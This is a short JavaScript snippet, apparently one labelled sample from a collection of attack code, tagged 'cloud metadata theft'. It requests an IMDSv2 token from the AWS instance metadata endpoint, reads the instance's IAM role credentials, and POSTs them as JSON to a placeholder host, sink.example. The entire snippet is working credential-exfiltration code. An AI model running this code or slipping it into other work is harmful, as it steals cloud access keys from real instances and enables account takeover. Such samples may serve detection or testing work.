// class: cloud metadata theft; style: fetch
const base = 'http://169.254.169.254/latest';
const token = await (await fetch(`${base}/api/token`, { method: 'PUT', headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '60' } })).text();
const h = { 'X-aws-ec2-metadata-token': token };
const role = await (await fetch(`${base}/meta-data/iam/security-credentials/`, { headers: h })).text();
const creds = await (await fetch(`${base}/meta-data/iam/security-credentials/${role}`, { headers: h })).json();
await fetch('https://sink.example', { method: 'POST', body: JSON.stringify(creds) });
